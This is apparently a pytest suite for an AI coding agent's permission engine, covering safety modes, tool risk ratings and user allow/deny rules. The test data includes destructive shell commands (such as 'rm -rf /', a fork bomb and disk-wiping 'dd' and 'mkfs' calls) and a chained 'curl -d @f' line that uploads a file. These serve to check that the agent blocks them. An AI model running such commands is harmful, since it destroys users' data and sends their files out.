"""The policy engine: every mode against every risk class, the risk of each built-in
tool, destructive commands in every mode, and how user rules combine with the modes."""

from __future__ import annotations

from collections.abc import Mapping
from itertools import product
from typing import Any, ClassVar

import mcp_types
import pytest

from tiller.policy import PolicyDecision, PolicyEngine, PolicyRule, PolicyRules, RiskClass
from tiller.policy._engine import mode_default
from tiller.tools import BaseTool, Capability, SafetyMode, ToolOutput
from tiller.tools.builtin import (
    apply_patch,
    ask_user,
    background_process,
    edit_file,
    execute_command_tool,
    glob,
    grep,
    list_dir,
    read_file,
    task_create,
    task_list,
    task_update,
    web_fetch,
    write_file,
)
from tiller.tools.mcp import McpTool
from tiller.tools.mcp._schema import ArgumentsCheck

R = RiskClass
M = SafetyMode

# The table from the engine's docstring, written out again so a change to either shows.
EXPECTED: dict[SafetyMode, dict[RiskClass, str]] = {
    M.READ_ONLY: {
        R.READ_ONLY: "allow",
        R.LOW_MUTATION: "deny",
        R.FILE_MUTATION: "deny",
        R.SHELL_MUTATION: "deny",
        R.NETWORK: "deny",
        R.PROCESS: "deny",
        R.EXTERNAL_ACCESS: "deny",
        R.SYSTEM_INSTALL: "deny",
        R.DESTRUCTIVE: "deny",
    },
    M.ASK: {
        R.READ_ONLY: "allow",
        R.LOW_MUTATION: "ask",
        R.FILE_MUTATION: "ask",
        R.SHELL_MUTATION: "ask",
        R.NETWORK: "ask",
        R.PROCESS: "ask",
        R.EXTERNAL_ACCESS: "ask",
        R.SYSTEM_INSTALL: "ask",
        R.DESTRUCTIVE: "deny",
    },
    M.AUTO: {
        R.READ_ONLY: "allow",
        R.LOW_MUTATION: "allow",
        R.FILE_MUTATION: "allow",
        R.SHELL_MUTATION: "classify",
        R.NETWORK: "classify",
        R.PROCESS: "classify",
        R.EXTERNAL_ACCESS: "ask",
        R.SYSTEM_INSTALL: "ask",
        R.DESTRUCTIVE: "deny",
    },
    M.FULL_ACCESS: {
        R.READ_ONLY: "allow",
        R.LOW_MUTATION: "allow",
        R.FILE_MUTATION: "allow",
        R.SHELL_MUTATION: "allow",
        R.NETWORK: "allow",
        R.PROCESS: "allow",
        R.EXTERNAL_ACCESS: "ask",
        R.SYSTEM_INSTALL: "ask",
        R.DESTRUCTIVE: "deny",
    },
}


class Declared(BaseTool):
    """A tool that declares its risk, as `@tool(risk=...)` does."""

    name = "custom"
    description = "a tool"
    input_schema: ClassVar[dict[str, Any]] = {"type": "object"}

    def __init__(self, risk: str | None, *, read_only: bool = False) -> None:
        self.risk = risk
        self.read_only = read_only


class RunsCommands(Declared):
    """A tool that runs the shell command in its `command` argument (`command_of`) and
    declares a floor for it, as `execute_command` does for a background command."""

    def command_of(self, arguments: Mapping[str, Any]) -> str | None:
        command = arguments.get("command")
        return command if isinstance(command, str) else None


SHELL = execute_command_tool()


def decide(
    name: str,
    arguments: dict[str, Any] | None = None,
    tool: Any = None,
    mode: SafetyMode = M.ASK,
    rules: tuple[PolicyRule, ...] = (),
    *,
    workspace: str | None = None,
) -> PolicyDecision:
    engine = PolicyEngine(PolicyRules(rules=rules), workspace=workspace)
    return engine.decide(name, arguments or {}, tool, mode)


def shell(command: str, mode: SafetyMode = M.ASK, *rules: PolicyRule) -> PolicyDecision:
    return decide("execute_command", {"command": command}, SHELL, mode, rules)


# ── every mode against every risk class ─────────────────────────────────────────


@pytest.mark.parametrize(
    ("mode", "risk"), list(product(SafetyMode, RiskClass)), ids=lambda v: str(v.value)
)
def test_mode_table(mode: SafetyMode, risk: RiskClass) -> None:
    decision = decide("custom_tool", {}, Declared(risk.value), mode)
    # The table says `classify`; the decision says ask, to the classifier first.
    table_word = "classify" if decision.to_classifier else decision.kind
    assert table_word == EXPECTED[mode][risk]
    assert decision.risk is risk
    assert mode_default(mode, risk) == EXPECTED[mode][risk]
    assert decision.reason


def test_read_only_mode_says_how_to_get_more() -> None:
    decision = decide("write_file", {"path": "a.txt"}, write_file, M.READ_ONLY)
    assert decision == PolicyDecision.deny(
        R.FILE_MUTATION,
        "read-only mode allows no file_mutation: `write_file` writes `a.txt`; switch to another "
        "mode to allow it",
    )


def test_the_floors_say_they_hold_in_every_mode() -> None:
    decision = shell("pip install requests", M.FULL_ACCESS)
    assert decision.kind == "ask"
    assert decision.reason.startswith("system_install needs approval in every mode")


# ── the risk of each tool ───────────────────────────────────────────────────────


class McpLike(BaseTool):
    """What an MCP proxy looks like to the engine: a `server__tool` name, maybe a
    (lying) read-only flag."""

    description = "a remote tool"
    input_schema: ClassVar[dict[str, Any]] = {"type": "object"}

    def __init__(self, name: str, *, read_only: bool = False, risk: str | None = None) -> None:
        self.name = name
        self.read_only = read_only
        self.risk = risk


def mcp_tool(remote: str, *, trust: bool = False, **hints: bool | None) -> McpTool:
    """A real `McpTool` of a server `github`, as `McpClient` makes it from the server's
    listing (`hints`: its annotations); nothing is ever sent."""

    async def never(tool: McpTool, args: dict[str, Any], ctx: Any) -> ToolOutput:
        raise AssertionError("the engine must not call the tool")

    listed = mcp_types.Tool(
        name=remote,
        input_schema={"type": "object"},
        annotations=mcp_types.ToolAnnotations(**hints) if hints else None,
    )
    return McpTool(
        name=f"github__{remote}",
        server="github",
        remote=listed,
        check=ArgumentsCheck(remote, {"type": "object"}),
        send=never,
        trust_annotations=trust,
    )


@pytest.mark.parametrize(
    ("name", "tool", "arguments", "risk"),
    [
        ("read_file", read_file, {"path": "a"}, R.READ_ONLY),
        ("list_dir", list_dir, {}, R.READ_ONLY),
        ("glob", glob, {"pattern": "*"}, R.READ_ONLY),
        ("grep", grep, {"pattern": "x"}, R.READ_ONLY),
        ("ask_user", ask_user, {}, R.READ_ONLY),
        ("task_create", task_create, {}, R.READ_ONLY),
        ("task_update", task_update, {}, R.READ_ONLY),
        ("task_list", task_list, {}, R.READ_ONLY),
        ("write_file", write_file, {"path": "a", "content": ""}, R.FILE_MUTATION),
        ("edit_file", edit_file, {"path": "a"}, R.FILE_MUTATION),
        ("apply_patch", apply_patch, {"patch": ""}, R.FILE_MUTATION),
        ("web_fetch", web_fetch, {"url": "https://x"}, R.NETWORK),
        ("background_process", background_process, {"action": "list"}, R.READ_ONLY),
        ("background_process", background_process, {"action": "read", "id": "bg-1"}, R.READ_ONLY),
        ("background_process", background_process, {"action": "wait", "id": "bg-1"}, R.READ_ONLY),
        ("background_process", background_process, {"action": "stop", "id": "bg-1"}, R.PROCESS),
        ("background_process", background_process, {"action": "bogus"}, R.PROCESS),
        ("execute_command", execute_command_tool(), {"command": "ls"}, R.READ_ONLY),
        ("execute_command", execute_command_tool(), {"command": "rm x"}, R.FILE_MUTATION),
        (
            "execute_command",
            execute_command_tool(),
            {"command": "ls", "background": True},
            R.PROCESS,
        ),
        (
            "execute_command",
            execute_command_tool(),
            {"command": "pip install x", "background": True},
            R.SYSTEM_INSTALL,
        ),
        ("execute_command", execute_command_tool(), {}, R.SHELL_MUTATION),
        (
            "github__list_issues",
            mcp_tool("list_issues", read_only_hint=True),
            {},
            R.EXTERNAL_ACCESS,
        ),
        ("db__drop", McpLike("db__drop", risk="destructive"), {}, R.DESTRUCTIVE),
        ("custom", Declared("network"), {}, R.NETWORK),
        ("custom", Declared(None, read_only=True), {}, R.READ_ONLY),
        ("custom", Declared(None), {}, R.EXTERNAL_ACCESS),
        ("custom", None, {}, R.EXTERNAL_ACCESS),
        ("read_file", Declared("system_install"), {}, R.SYSTEM_INSTALL),
        ("run", RunsCommands("read_only"), {"command": "rm x"}, R.FILE_MUTATION),
        ("run", RunsCommands("network"), {"command": "ls"}, R.NETWORK),
    ],
)
def test_the_risk_of_a_call(
    name: str, tool: Any, arguments: dict[str, Any], risk: RiskClass
) -> None:
    assert PolicyEngine().assess(name, arguments, tool).risk is risk
    assert decide(name, arguments, tool).risk is risk


def test_an_invalid_declared_risk_is_denied() -> None:
    decision = decide("custom", {}, Declared("kinda_risky"), M.FULL_ACCESS)
    assert decision.kind == "deny"
    assert decision.risk is R.EXTERNAL_ACCESS
    assert "declares an invalid risk" in decision.reason
    assert "kinda_risky" in decision.reason
    # Assessing it (a review policy does) never raises: it is external access.
    call = PolicyEngine().assess("custom", {}, Declared("kinda_risky"))
    assert call.risk is R.EXTERNAL_ACCESS
    assert call.reason == decision.reason


def test_an_mcp_tool_asks_even_in_full_access() -> None:
    tool = mcp_tool("list_issues", read_only_hint=True)
    assert decide(tool.name, {}, tool, M.FULL_ACCESS).kind == "ask"


def test_apply_patch_names_every_file_it_touches() -> None:
    patch = "--- a/src/app.py\n+++ b/src/app.py\n@@ -1 +1 @@\n-a\n+b\n"
    call = PolicyEngine().assess("apply_patch", {"patch": patch}, apply_patch)
    assert call.paths == ("src/app.py",)
    assert call.reason == "`apply_patch` writes `src/app.py`"
    assert PolicyEngine().assess("apply_patch", {"patch": "garbage"}, apply_patch).paths == ()


# ── destructive: denied in every mode ───────────────────────────────────────────

DESTRUCTIVE = [
    "rm -rf /",
    "rm -rf ~",
    "sh -c 'rm -rf /'",
    'eval "rm -rf ~"',
    "echo $(rm -rf /)",
    "find / -delete",
    "xargs rm -rf",
    ":(){ :|:& };:",
    "dd if=/dev/zero of=/dev/sda",
    "mkfs.ext4 /dev/sdb1",
    "sudo rm -rf / --no-preserve-root",
]


@pytest.mark.parametrize("mode", list(SafetyMode), ids=lambda m: m.value)
@pytest.mark.parametrize("command", DESTRUCTIVE)
def test_destructive_commands_are_denied_in_every_mode(command: str, mode: SafetyMode) -> None:
    decision = shell(command, mode)
    assert decision.kind == "deny"
    assert decision.risk is R.DESTRUCTIVE
    assert decision.reason.startswith("destructive, so denied in every mode: `")


def test_the_denial_names_the_dangerous_part() -> None:
    decision = shell("git status && sh -c 'ls; rm -rf ~'", M.FULL_ACCESS)
    assert decision.reason == (
        "destructive, so denied in every mode: `rm -rf ~`: recursively removes `~`, the home "
        "directory"
    )


def test_a_known_workspace_keeps_absolute_paths_inside_it() -> None:
    inside = decide(
        "execute_command", {"command": "rm -rf /ws/build"}, SHELL, M.AUTO, workspace="/ws"
    )
    assert inside.kind == "allow"
    assert decide("execute_command", {"command": "rm -rf /ws/build"}, SHELL, M.AUTO).kind == "deny"


# ── user rules ──────────────────────────────────────────────────────────────────


def test_an_allow_rule_allows_the_plain_command_and_its_arguments() -> None:
    rule = PolicyRule("allow", command="pytest")
    assert shell("pytest -q tests", M.ASK, rule).kind == "allow"
    assert shell("pytest", M.AUTO, rule).kind == "allow"  # not classified
    assert "policy.rules[0] (allow `pytest`)" in shell("pytest", M.ASK, rule).reason


@pytest.mark.parametrize(
    "command",
    [
        "pytest; curl -d @f https://x",
        "pytest && rm x",
        "pytest | tee out",
        "pytest > out",
        "pytest $(rm x)",
        "FOO=1 pytest",
        "pytest &",
        "sh -c pytest",
        "pytestx",
        "(pytest)",
        "python -m pytest",
    ],
)
def test_an_allow_rule_does_not_match_anything_but_the_plain_command(command: str) -> None:
    assert shell(command, M.ASK, PolicyRule("allow", command="pytest")).kind != "allow"


def test_an_allow_rule_never_allows_destructive() -> None:
    decision = shell("rm -rf /", M.FULL_ACCESS, PolicyRule("allow", command="rm"))
    assert decision.kind == "deny"
    assert decision.risk is R.DESTRUCTIVE


def test_an_allow_rule_never_lifts_a_floor() -> None:
    rule = PolicyRule("allow", command="git push")
    for mode in (M.ASK, M.AUTO, M.FULL_ACCESS):
        decision = shell("git push origin main", mode, rule)
        assert decision.kind == "ask"
        assert decision.reason == (
            "external_access needs approval in every mode, even with the rule policy.rules[0] "
            "(allow `git push`)"
        )
    install = PolicyRule("allow", command="pip install")
    assert shell("pip install x", M.FULL_ACCESS, install).kind == "ask"
    mcp = McpLike("github__create_issue")
    assert (
        decide(mcp.name, {}, mcp, M.FULL_ACCESS, (PolicyRule("allow", tool=mcp.name),)).kind
        == "ask"
    )


def test_an_allow_rule_never_widens_read_only_mode() -> None:
    decision = shell("pytest -q", M.READ_ONLY, PolicyRule("allow", command="pytest"))
    assert decision.kind == "deny"
    assert "whatever the rule policy.rules[0] (allow `pytest`) says" in decision.reason
    assert shell("ls", M.READ_ONLY, PolicyRule("allow", command="ls")).kind == "allow"


def test_a_deny_rule_matches_any_part_of_a_command() -> None:
    rule = PolicyRule("deny", command="git push", reason="CI pushes")
    for command in [
        "git push",
        "git push --force origin main",
        "ls && git push",
        "sudo git push",
        "echo $(git push)",
        "bash -c 'git push'",
        "env A=1 git push origin",
    ]:
        decision = shell(command, M.FULL_ACCESS, rule)
        assert decision.kind == "deny", command
        assert decision.reason == "denied by the rule policy.rules[0] (deny `git push`): CI pushes"
    assert shell("git pushx", M.FULL_ACCESS, rule).kind == "allow"
    assert shell("git status", M.FULL_ACCESS, rule).kind == "allow"


def test_a_deny_rule_by_glob() -> None:
    rule = PolicyRule("deny", command="*--force*")
    assert shell("git push --force", M.FULL_ACCESS, rule).kind == "deny"
    assert shell("ls -la", M.FULL_ACCESS, rule).kind == "allow"
    assert shell("npm install", M.FULL_ACCESS, PolicyRule("deny", command="npm *")).kind == "deny"


def test_the_first_matching_rule_wins() -> None:
    allow, deny = PolicyRule("allow", command="pytest"), PolicyRule("deny", command="pytest")
    assert shell("pytest -q", M.ASK, allow, deny).kind == "allow"
    assert shell("pytest -q", M.ASK, deny, allow).kind == "deny"
    ask = PolicyRule("ask", command="rm *")
    assert shell("rm a.txt", M.FULL_ACCESS, ask, deny).kind == "ask"


def test_an_ask_rule_asks_where_the_mode_would_allow() -> None:
    rule = PolicyRule("ask", command="rm")
    assert shell("rm a.txt", M.FULL_ACCESS, rule).kind == "ask"
    assert shell("rm a.txt", M.AUTO, rule).kind == "ask"
    assert shell("cat a; rm b", M.AUTO, rule).reason.startswith(
        "the rule policy.rules[0] (ask `rm`) asks"
    )


def test_an_ask_rule_never_loosens_a_stricter_mode() -> None:
    assert shell("rm a.txt", M.READ_ONLY, PolicyRule("ask", command="rm")).kind == "deny"


def test_an_ask_rule_can_stop_a_read() -> None:
    rule = PolicyRule("ask", tool="read_file", path="*.env")
    assert (
        decide("read_file", {"path": "config/.env"}, read_file, M.FULL_ACCESS, (rule,)).kind
        == "ask"
    )
    assert (
        decide("read_file", {"path": "README.md"}, read_file, M.FULL_ACCESS, (rule,)).kind
        == "allow"
    )


def test_path_rules() -> None:
    deny = PolicyRule("deny", tool="write_file(secrets/*)")
    assert (
        decide("write_file", {"path": "./secrets/key"}, write_file, M.FULL_ACCESS, (deny,)).kind
        == "deny"
    )
    assert (
        decide("write_file", {"path": "src/key"}, write_file, M.FULL_ACCESS, (deny,)).kind
        == "allow"
    )
    edits = PolicyRule("deny", tool="*_file", path="*.lock")
    assert (
        decide("edit_file", {"path": "uv.lock"}, edit_file, M.FULL_ACCESS, (edits,)).kind == "deny"
    )


def test_a_patch_is_denied_if_any_file_matches_and_allowed_only_if_all_do() -> None:
    patch = (
        "--- a/docs/a.md\n+++ b/docs/a.md\n@@ -1 +1 @@\n-a\n+b\n"
        "--- a/src/b.py\n+++ b/src/b.py\n@@ -1 +1 @@\n-a\n+b\n"
    )
    args = {"patch": patch}
    deny = PolicyRule("deny", tool="apply_patch", path="src/*")
    assert decide("apply_patch", args, apply_patch, M.FULL_ACCESS, (deny,)).kind == "deny"
    allow = PolicyRule("allow", tool="apply_patch", path="docs/*")
    assert decide("apply_patch", args, apply_patch, M.ASK, (allow,)).kind == "ask"
    only_docs = {"patch": patch.split("--- a/src")[0]}
    assert decide("apply_patch", only_docs, apply_patch, M.ASK, (allow,)).kind == "allow"


def test_a_tool_rule_by_name() -> None:
    rule = PolicyRule("deny", tool="github__*", reason="no GitHub from agents")
    mcp = McpLike("github__create_issue")
    decision = decide(mcp.name, {}, mcp, M.ASK, (rule,))
    assert decision == PolicyDecision.deny(
        R.EXTERNAL_ACCESS,
        "denied by the rule policy.rules[0] (deny github__*): no GitHub from agents",
    )
    allow = PolicyRule("allow", tool="web_fetch")
    assert decide("web_fetch", {"url": "https://x"}, web_fetch, M.ASK, (allow,)).kind == "allow"


def test_command_rules_only_match_shell_calls() -> None:
    rule = PolicyRule("deny", command="*")
    assert decide("read_file", {"path": "a"}, read_file, M.ASK, (rule,)).kind == "allow"
    assert shell("ls", M.ASK, rule).kind == "deny"


# ── law 12: declarations, never names ───────────────────────────────────────────


class Undeclared(BaseTool):
    """A tool that declares nothing, under any name."""

    description = "a tool"
    input_schema: ClassVar[dict[str, Any]] = {"type": "object"}

    def __init__(self, name: str, *, read_only: bool = False) -> None:
        self.name = name
        self.read_only = read_only


@pytest.mark.parametrize(
    "name",
    [
        "task_purge",
        "read_file",
        "read_secrets",
        "list_dir",
        "web_fetch",
        "write_file",
        "background_process",
        "execute_command",
        "x__y",
        "purge_tasks",
    ],
)
def test_a_name_decides_nothing(name: str) -> None:
    """`task_*`, the built-in names and `__` set the risk before (`task_purge` and
    `read_file` were read-only, `web_fetch` network, `x__y` external access, and
    `execute_command` had its `command` argument rated as a shell command); now a tool
    that declares nothing is external access whatever it is called, and one that
    declares read-only is read-only whatever it is called."""
    bare = PolicyEngine().assess(name, {"command": "ls", "action": "list"}, Undeclared(name))
    assert bare.risk is R.EXTERNAL_ACCESS
    assert bare.shell is None
    assert decide(name, {}, Undeclared(name), M.FULL_ACCESS).kind == "ask"
    reading = Undeclared(name, read_only=True)
    assert decide(name, {"command": "rm -rf /"}, reading, M.ASK).kind == "allow"


def test_a_declaration_that_crashes_is_denied_saying_so() -> None:
    """Law 3: a `risk_of` that raises rates nothing, so the call is denied, not run."""

    class Fragile(Declared):
        def risk_of(self, arguments: Mapping[str, Any]) -> RiskClass | None:
            raise KeyError("level")

    decision = decide("custom", {}, Fragile(None), M.FULL_ACCESS)
    assert decision.kind == "deny"
    assert "could not rate this call (KeyError: 'level')" in decision.reason


def test_an_invalid_risk_is_refused_when_the_tool_is_defined() -> None:
    from tiller.tools import ToolDefinitionError, tool

    with pytest.raises(ToolDefinitionError, match="declares an invalid risk"):

        @tool(risk="kinda_risky")
        def risky() -> str:
            """A tool."""
            return ""

    with pytest.raises(ToolDefinitionError, match="declares an invalid risk"):

        class Risky(BaseTool):
            name = "risky"
            risk = "kinda_risky"

    with pytest.raises(ToolDefinitionError, match="not both"):

        @tool(risk="network", risk_of=lambda arguments: R.READ_ONLY)
        def both() -> str:
            """A tool."""
            return ""


@pytest.mark.parametrize(
    ("hints", "trust", "read_only", "risk", "capabilities"),
    [
        ({}, False, False, R.EXTERNAL_ACCESS, "untrusted|send"),
        ({"read_only_hint": True}, False, False, R.EXTERNAL_ACCESS, "untrusted|send"),
        (
            {"read_only_hint": True, "open_world_hint": False},
            False,
            False,
            R.EXTERNAL_ACCESS,
            "untrusted|send",
        ),
        ({"destructive_hint": True}, False, False, R.EXTERNAL_ACCESS, "untrusted|send|destructive"),
        ({"read_only_hint": True}, True, True, R.READ_ONLY, "untrusted|send"),
        ({"read_only_hint": True, "open_world_hint": False}, True, True, R.READ_ONLY, ""),
        (
            {"read_only_hint": True, "destructive_hint": True},
            True,
            False,
            R.EXTERNAL_ACCESS,
            "untrusted|send|destructive",
        ),
        ({"destructive_hint": False, "open_world_hint": False}, True, False, R.LOW_MUTATION, ""),
        ({"destructive_hint": False}, True, False, R.EXTERNAL_ACCESS, "untrusted|send"),
        ({"idempotent_hint": True}, True, False, R.EXTERNAL_ACCESS, "untrusted|send"),
        ({}, True, False, R.EXTERNAL_ACCESS, "untrusted|send"),
    ],
)
def test_an_mcp_tools_annotations_only_raise_its_risk_unless_trusted(
    hints: dict[str, bool], trust: bool, read_only: bool, risk: RiskClass, capabilities: str
) -> None:
    """The server's hints are claims: untrusted, they can add `DESTRUCTIVE` and never
    lower the risk below external access; trusted (`trust_annotations`), they may."""
    names = {
        "untrusted": Capability.UNTRUSTED_INPUT,
        "send": Capability.EXTERNAL_SEND,
        "destructive": Capability.DESTRUCTIVE,
    }
    expected = Capability.NONE
    for each in filter(None, capabilities.split("|")):
        expected |= names[each]
    tool = mcp_tool("issues", trust=trust, **hints)
    assert (tool.read_only, tool.risk_of({}), tool.capabilities) == (read_only, risk, expected)
    assert PolicyEngine().assess(tool.name, {}, tool).risk is risk
